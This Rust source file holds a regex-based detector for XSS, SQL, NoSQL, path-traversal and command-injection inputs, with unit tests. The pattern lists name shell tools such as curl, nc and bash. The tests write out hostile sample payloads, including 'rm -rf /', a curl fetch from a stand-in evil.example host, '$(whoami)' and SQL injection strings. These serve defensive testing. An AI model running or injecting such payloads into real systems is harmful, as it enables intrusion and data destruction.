//! Malicious-pattern detection.
//!
//! Runs on a normalized copy of the input and reports which threat categories
//! matched. The input itself is never modified.

use std::fmt;
use std::sync::LazyLock;

use regex::Regex;
use serde::Serialize;

use crate::validation::normalize::normalize;
use crate::validation::sanitize::{EMBED_TAGS, EVENT_HANDLERS};

/// Threat category reported by [`detect_threats`]
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ThreatCategory {
    Xss,
    SqlInjection,
    PathTraversal,
    CommandInjection,
    NoSqlInjection,
}

impl fmt::Display for ThreatCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            ThreatCategory::Xss => "xss",
            ThreatCategory::SqlInjection => "sql_injection",
            ThreatCategory::PathTraversal => "path_traversal",
            ThreatCategory::CommandInjection => "command_injection",
            ThreatCategory::NoSqlInjection => "nosql_injection",
        };
        f.write_str(name)
    }
}

const SHELL_COMMANDS: &str =
    "rm|cat|curl|wget|nc|ncat|bash|sh|zsh|powershell|cmd|whoami|chmod|chown|python[0-9]?|perl|id|uname";

struct DetectionPattern {
    category: ThreatCategory,
    regex: Regex,
}

impl DetectionPattern {
    fn new(category: ThreatCategory, pattern: &str) -> Self {
        Self {
            category,
            regex: Regex::new(pattern).expect("invalid detection pattern"),
        }
    }
}

static DETECTION_PATTERNS: LazyLock<Vec<DetectionPattern>> = LazyLock::new(|| {
    use ThreatCategory::*;
    vec![
        DetectionPattern::new(Xss, r"(?i)<\s*/?\s*script\b"),
        DetectionPattern::new(Xss, &format!(r"(?i)<\s*(?:{EMBED_TAGS}|svg|math)\b")),
        DetectionPattern::new(Xss, &format!(r"(?i)\bon(?:{EVENT_HANDLERS})\s*=")),
        DetectionPattern::new(Xss, r"(?i)\b(?:javascript|vbscript|livescript)\s*:"),
        DetectionPattern::new(Xss, r"(?i)\bdata\s*:\s*text/html"),
        DetectionPattern::new(Xss, r"(?i)\bexpression\s*\("),
        DetectionPattern::new(SqlInjection, r"(?i)\bunion\s+(?:all\s+)?select\b"),
        DetectionPattern::new(
            SqlInjection,
            r"(?i)\b(?:drop|truncate|alter)\s+(?:table|database|schema)\b",
        ),
        DetectionPattern::new(SqlInjection, r"(?i)'\s*(?:or|and)\s+'?\w+'?\s*=\s*'?\w+"),
        DetectionPattern::new(
            SqlInjection,
            r"(?i)'\s*;\s*(?:select|insert|update|delete|drop|exec)\b",
        ),
        DetectionPattern::new(SqlInjection, r"(?i)\bexec(?:ute)?\s+(?:xp|sp)_\w+"),
        DetectionPattern::new(SqlInjection, r"(?i)\b(?:pg_sleep|benchmark)\s*\(|\bwaitfor\s+delay\b"),
        DetectionPattern::new(SqlInjection, r"(?i)\bsleep\s*\(\s*\d+\s*\)\s*(?:--|#|;)"),
        DetectionPattern::new(PathTraversal, r"\.\.[/\\]|[/\\]\.\.$"),
        DetectionPattern::new(PathTraversal, r"(?i)(?:/etc/passwd|/etc/shadow|c:\\windows\\)"),
        // Chained command followed by a flag, path or URL, or ending the input
        DetectionPattern::new(
            CommandInjection,
            &format!(
                r#"(?i)(?:;|\|\|?|&&)\s*(?:{SHELL_COMMANDS})(?:\s+(?:--?[a-z]|[/~.$]|[a-z]+://)|\s*(?:$|[;|&`>"']))"#
            ),
        ),
        DetectionPattern::new(CommandInjection, &format!(r"(?i)\$\(\s*(?:{SHELL_COMMANDS})\b")),
        DetectionPattern::new(CommandInjection, &format!(r"(?i)`\s*(?:{SHELL_COMMANDS})\b")),
        DetectionPattern::new(
            NoSqlInjection,
            r#"(?i)"\$(?:where|ne|gt|gte|lt|lte|regex|expr|function|in|nin)"\s*:"#,
        ),
    ]
});

/// Categories matched by the normalized form of `input`, deduplicated and
/// in declaration order.
pub fn detect_threats(input: &str) -> Vec<ThreatCategory> {
    let normalized = normalize(input);
    let mut found: Vec<ThreatCategory> = DETECTION_PATTERNS
        .iter()
        .filter(|p| p.regex.is_match(&normalized))
        .map(|p| p.category)
        .collect();
    found.sort();
    found.dedup();
    found
}

/// Whether any threat category matches
pub fn is_malicious(input: &str) -> bool {
    !detect_threats(input).is_empty()
}

/// Bounded excerpt safe to write to logs.
pub fn excerpt(input: &str, max_chars: usize) -> String {
    let mut out: String = input
        .chars()
        .take(max_chars)
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    if input.chars().count() > max_chars {
        out.push_str("...");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn test_detects_xss() {
        assert_eq!(detect_threats("<script>alert(1)</script>"), vec![ThreatCategory::Xss]);
        assert!(is_malicious(r#"{"bio": "<img src=x onerror=alert(1)>"}"#));
        assert!(is_malicious("%3Cscript%3E"));
        assert!(is_malicious("&lt;iframe src=evil&gt;"));
        assert!(is_malicious(r"\u003cscript\u003e"));
        assert!(is_malicious("\u{ff1c}script\u{ff1e}"));
    }

    #[test]
    fn test_detects_sql_injection() {
        assert_eq!(detect_threats("' OR 1=1 --"), vec![ThreatCategory::SqlInjection]);
        assert!(is_malicious("1 UNION SELECT password FROM users"));
        assert!(is_malicious("x'; DROP TABLE users"));
    }

    #[test]
    fn test_detects_path_and_command_injection() {
        assert_eq!(detect_threats("../../etc/passwd"), vec![ThreatCategory::PathTraversal]);
        assert_eq!(
            detect_threats("file.txt; rm -rf /"),
            vec![ThreatCategory::CommandInjection]
        );
        assert!(is_malicious("$(whoami)"));
        assert!(is_malicious("x && curl http://evil.example/run.sh"));
        assert!(is_malicious("payload | sh"));
        assert!(is_malicious(r#"{"file": "a.txt; id"}"#));
    }

    #[test]
    fn test_shell_words_in_prose_are_not_commands() {
        for body in [
            "Buy milk; cat food and bread",
            "Bring your passport; id cards are not enough",
            "Tea && cat videos",
            r#"{"note": "left early; sh meeting moved"}"#,
        ] {
            assert!(detect_threats(body).is_empty(), "false positive on {body}");
        }
    }

    #[test]
    fn test_detects_nosql_operators() {
        assert_eq!(
            detect_threats(r#"{"password": {"$ne": null}}"#),
            vec![ThreatCategory::NoSqlInjection]
        );
    }

    #[test]
    fn test_multiple_categories_are_ordered() {
        let found = detect_threats("<script>x</script> ../secret ' OR 'a'='a");
        assert_eq!(
            found,
            vec![
                ThreatCategory::Xss,
                ThreatCategory::SqlInjection,
                ThreatCategory::PathTraversal
            ]
        );
    }

    #[test]
    fn test_benign_payloads() {
        for body in [
            r#"{"name":"Acme Corp","region":"us-east-1","limit":50}"#,
            r#"{"email":"ops@example.com","message":"Can't log in since Monday"}"#,
            r#"{"path":"reports/2024/q1.csv","ratio":"3/4"}"#,
            "Select the best option from the menu",
        ] {
            assert!(detect_threats(body).is_empty(), "false positive on {body}");
        }
    }

    #[test]
    fn test_excerpt_is_bounded() {
        assert_eq!(excerpt("abcdef", 3), "abc...");
        assert_eq!(excerpt("a\nb", 10), "a b");
    }

    proptest! {
        #[test]
        fn prop_detection_does_not_mutate(s in any::<String>()) {
            let original = s.clone();
            let _ = detect_threats(&s);
            prop_assert_eq!(s, original);
        }

        #[test]
        fn prop_detection_is_deterministic(s in r#"[<>/%&#;:='" a-z0-9().\\$-]{0,48}"#) {
            prop_assert_eq!(detect_threats(&s), detect_threats(&s));
        }
    }
}
